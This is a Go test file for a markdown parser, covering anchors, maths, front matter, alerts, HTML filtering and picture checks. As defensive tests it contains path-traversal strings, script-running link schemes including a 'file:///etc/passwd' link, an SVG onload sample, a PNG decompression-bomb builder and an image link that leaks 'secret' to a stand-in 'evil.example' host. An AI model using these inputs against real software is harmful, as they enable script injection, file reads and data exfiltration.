package document

import (
	"bytes"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"reflect"
	"strings"
	"testing"

	"redline/backend/export/math"
)

func parse(t *testing.T, src string) *Document {
	t.Helper()
	d, err := Parse([]byte(src), Options{})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func TestAnchorsAreMadeAsGitHubMakesThem(t *testing.T) {
	d := parse(t, "# Usage & `code`\n\n# Usage\n\n# Usage\n\n# Usage-1\n\n# Über *das* Meer!\n\n# a_b  c\n")
	var got []string
	for _, block := range d.Blocks {
		got = append(got, block.(Heading).Anchor)
	}
	want := []string{"usage--code", "usage", "usage-1", "usage-1-1", "über-das-meer", "a_b--c"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("anchors %q, want %q", got, want)
	}
}

// read is an equation as the text has it.
func read(tex string, display bool) Equation {
	return Equation{TeX: tex, Math: new(math.Reader).Read(tex), Display: display}
}

func TestDollarsAreMathsOnlyWhereTheyEncloseIt(t *testing.T) {
	for _, c := range []struct {
		src  string
		want []Inline
	}{
		{"costs $5 and $10", []Inline{Text{"costs $5 and $10"}}},
		{"is $x^2$.", []Inline{Text{"is "}, read("x^2", false), Text{"."}}},
		{"a$b$c", []Inline{Text{"a$b$c"}}},
		{`\$x$`, []Inline{Text{"$x$"}}},
		{"$`a|b`$", []Inline{read("a|b", false)}},
		{"see $$x$$ here", []Inline{Text{"see "}, read("x", true), Text{" here"}}},
		{"$x", []Inline{Text{"$x"}}},
		{"`$x$`", []Inline{CodeSpan{"$x$"}}},
	} {
		if got := parse(t, c.src).Blocks[0].(Paragraph).Content; !reflect.DeepEqual(got, c.want) {
			t.Errorf("%q: %#v, want %#v", c.src, got, c.want)
		}
	}
}

func TestDisplayedMathsKeepsBlankLines(t *testing.T) {
	for src, want := range map[string]string{
		"text\n$$\na\n\nb\n$$\n": "a\n\nb",
		"$$ a $$":                "a",
		"```math\nx_1\n```":      "x_1",
	} {
		blocks := parse(t, src).Blocks
		if got, ok := blocks[len(blocks)-1].(Formula); !ok || got.TeX != want {
			t.Errorf("%q: %#v, want the formula %q", src, blocks, want)
		}
	}
	if _, ok := parse(t, "$$\nnever closed\n\nnext").Blocks[0].(Paragraph); !ok {
		t.Error("dollars that nothing closes took the text after them")
	}
}

func TestFrontMatterIsReadAndLeftOut(t *testing.T) {
	d := parse(t, "---\ntitle: \"A: b\"\nauthor:\n  - Ana\n  - Ben\ndate: 2026-06-16 # draft\nlang: en-GB\ntags: [x, y]\n---\ntext\n")
	if want := (Meta{Title: "A: b", Author: "Ana, Ben", Date: "2026-06-16", Language: "en-GB"}); d.Meta != want {
		t.Errorf("meta %+v, want %+v", d.Meta, want)
	}
	if len(d.Blocks) != 1 || d.Blocks[0].Source() != (Lines{10, 10}) {
		t.Errorf("blocks %#v, want one paragraph on line 10", d.Blocks)
	}
	for _, src := range []string{"---\n\ntext\n\n---\n", "---\n---\n", "---\ntitle: x\n", "text\n---\ntitle: x\n---\n"} {
		if d := parse(t, src); d.Meta != (Meta{}) || len(d.Blocks) == 0 {
			t.Errorf("%q was taken for front matter: %+v", src, d)
		}
	}
}

func TestAlertsStandAloneOnTheirFirstLine(t *testing.T) {
	alert, ok := parse(t, "> [!WARNING]\n> text\n").Blocks[0].(Alert)
	if !ok || alert.Kind != "warning" || alert.Kind.Title() != "Warning" || PlainText(alert.Blocks[0].(Paragraph).Content) != "text" {
		t.Errorf("%#v, want a warning that holds its text alone", alert)
	}
	for _, src := range []string{"> [!NOTE] text\n", "> [!OTHER]\n> text\n", "> text\n> [!NOTE]\n"} {
		if _, ok := parse(t, src).Blocks[0].(Quote); !ok {
			t.Errorf("%q is no alert", src)
		}
	}
}

func TestBlocksKnowTheirLines(t *testing.T) {
	d := parse(t, "# one\n\ntwo\nthree\n\n- four\n  - five\n\n```\nsix\n```\n\n> seven\n\n***\n\n| a |\n| - |\n| b |\n")
	want := []Lines{{1, 1}, {3, 4}, {6, 7}, {9, 11}, {13, 13}, {15, 15}, {17, 19}}
	for i, block := range d.Blocks {
		if block.Source() != want[i] {
			t.Errorf("%T stands on %v, want %v", block, block.Source(), want[i])
		}
	}
}

func TestOnlyALonePictureOfHTMLStays(t *testing.T) {
	d := parse(t, "<p align=center><img src=\"a.png\" alt=\"pier\" width=\"300px\"></p>\n\n<div>gone</div>\n\ntext <b>bold</b> <img src=b.png> end<br>line\n")
	if len(d.Blocks) != 2 {
		t.Fatalf("%#v, want two blocks", d.Blocks)
	}
	if image, ok := d.Blocks[0].(Paragraph).Content[0].(Image); !ok || image.Ref != "a.png" || image.Alt != "pier" || image.Width != 300 {
		t.Errorf("%#v, want the picture", d.Blocks[0])
	}
	want := []Inline{Text{"text bold  end"}, LineBreak{}, Text{"line"}}
	if got := d.Blocks[1].(Paragraph).Content; !reflect.DeepEqual(got, want) {
		t.Errorf("%#v, want %#v", got, want)
	}
}

func TestLocalPathStaysInTheWorkspace(t *testing.T) {
	for _, c := range []struct{ ref, dir, want string }{
		{"figs/a.png", "docs", "docs/figs/a.png"},
		{"my%20figs/plot.png?x=1#y", "docs", "docs/my figs/plot.png"},
		{"/figs/plot.png", "docs", "figs/plot.png"},
		{"../a.png", "docs", "a.png"},
		{"../../a.png", "docs", ""},
		{"%2e%2e/%2e%2e/a.png", "docs", ""},
		{"/../a.png", "docs", ""},
		{"//host/a.png", "docs", ""},
		{"https://host/a.png", "docs", ""},
		{"data:image/png;base64,AA", "docs", ""},
		{"C:\\a.png", "docs", ""},
		{"a%00.png", "docs", ""},
		{"#only", "docs", ""},
		{"100%.png", ".", "100%.png"},
	} {
		if got := LocalPath(c.ref, c.dir); got != c.want {
			t.Errorf("LocalPath(%q, %q) = %q, want %q", c.ref, c.dir, got, c.want)
		}
	}
}

func TestLinksThatRunSomethingAreNotSafe(t *testing.T) {
	for link, want := range map[string]bool{
		"https://a.org": true, "mailto:a@b.c": true, "#here": true, "other.md": true, "a/b:c": true, "?q=a:b": true,
		"javascript:x": false, "JaVaScRiPt:x": false, "java\nscript:x": false, " javascript:x": false, "\x01javascript:x": false,
		"data:text/html,x": false, "vbscript:x": false, "file:///etc/passwd": false,
	} {
		if Safe(link) != want {
			t.Errorf("Safe(%q) = %v", link, !want)
		}
	}
}

func picturesOf(t *testing.T, data []byte, err error) (Image, []string) {
	t.Helper()
	d, parseErr := Parse([]byte("![a](x.png)"), Options{Picture: func(string) ([]byte, error) { return data, err }})
	if parseErr != nil {
		t.Fatal(parseErr)
	}
	return d.Blocks[0].(Paragraph).Content[0].(Image), d.Warnings
}

func TestPicturesAreCheckedAndMadeAnew(t *testing.T) {
	var deep bytes.Buffer
	picture := image.NewNRGBA64(image.Rect(0, 0, 3, 2))
	picture.Set(1, 1, color.White)
	if err := png.Encode(&deep, picture); err != nil {
		t.Fatal(err)
	}
	got, warnings := picturesOf(t, deep.Bytes(), nil)
	if got.Picture == nil || got.Picture.Width != 3 || got.Picture.Height != 2 || len(warnings) > 0 {
		t.Fatalf("%+v %q, want a picture of 3 × 2", got, warnings)
	}
	if anew, err := png.Decode(bytes.NewReader(got.Picture.Data)); err != nil || anew.ColorModel() != color.NRGBAModel {
		t.Errorf("what is embedded is no PNG of 8 bits: %v", err)
	}
	for name, c := range map[string]struct {
		data []byte
		err  error
		want string
	}{
		"not there":     {nil, errors.New("no such file"), "no such file"},
		"no picture":    {[]byte("<svg onload=x>"), nil, "not a PNG"},
		"damaged":       {deep.Bytes()[:len(deep.Bytes())-20], nil, "damaged"},
		"a bomb":        {bomb(60_000, 60_000), nil, "60000 × 60000"},
		"too large":     {make([]byte, 21<<20), nil, "20 MB"},
		"one that lies": {bomb(5, 5), nil, "damaged"},
	} {
		got, warnings := picturesOf(t, c.data, c.err)
		if got.Picture != nil || !got.Refused || len(warnings) != 1 || !strings.Contains(warnings[0], c.want) {
			t.Errorf("%s: %+v %q, want a warning that says %q", name, got, warnings, c.want)
		}
	}
}

// bomb is a PNG that announces a size and has nothing.
func bomb(width, height uint32) []byte {
	header := binary.BigEndian.AppendUint32([]byte("IHDR"), width)
	header = append(binary.BigEndian.AppendUint32(header, height), 8, 2, 0, 0, 0)
	out := binary.BigEndian.AppendUint32([]byte("\x89PNG\r\n\x1a\n"), uint32(len(header)-4))
	return binary.BigEndian.AppendUint32(append(out, header...), crc32.ChecksumIEEE(header))
}

func TestNoPictureComesFromTheNetwork(t *testing.T) {
	asked := false
	d, err := Parse([]byte("![a](https://evil.example/?d=secret) ![b](//host/x.png)"), Options{Picture: func(string) ([]byte, error) {
		asked = true
		return nil, nil
	}})
	if err != nil || asked || len(d.Warnings) != 2 {
		t.Errorf("asked %v, warnings %q, error %v; want two warnings and no question", asked, d.Warnings, err)
	}
}

func TestMarksBeyondTheDeepestAreDropped(t *testing.T) {
	indented := strings.Repeat(" ", 200) + "code\n"
	if got := string(flatten([]byte(indented))); got != indented {
		t.Errorf("a line that is far in lost its blanks: %q", got)
	}
	deepest := strings.Repeat("> ", maxDepth) + "text\n"
	if got := string(flatten([]byte(deepest))); got != deepest {
		t.Errorf("a line at the limit changed: %q", got)
	}
	got := string(flatten([]byte("before\n" + strings.Repeat(">", 5000) + " text\nafter")))
	if want := "before\n" + strings.Repeat(">", maxDepth) + " text\nafter"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}

func FuzzParse(f *testing.F) {
	f.Add("# a\n\n- [ ] b\n> [!TIP]\n> $x$\n\nterm\n: detail[^1]\n\n[^1]: note\n")
	f.Add("---\na: b\n---\n$$\n$$ x\n$$\n<img src=a><!-- -- -->\n| a |\n|-|\n")
	f.Fuzz(func(t *testing.T, src string) {
		d, err := Parse([]byte(src), Options{})
		if err != nil {
			t.Fatal(err)
		}
		last := strings.Count(src, "\n") + strings.Count(src, "\r") + 2
		for _, block := range d.Blocks {
			if at := block.Source(); at.First > at.Last || at.Last > last {
				t.Fatalf("%T stands on lines %v of %d", block, at, last)
			}
		}
	})
}
